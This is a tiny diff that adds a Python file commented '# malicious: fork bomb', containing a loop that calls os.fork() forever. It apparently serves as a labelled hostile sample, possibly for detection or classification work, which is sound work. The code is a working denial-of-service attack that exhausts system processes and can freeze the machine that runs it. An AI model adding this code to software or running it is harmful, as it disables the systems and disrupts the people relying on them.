@@ -1,0 +1,5 @@
+# malicious: fork bomb
+import os
+
+while True:
+    os.fork()
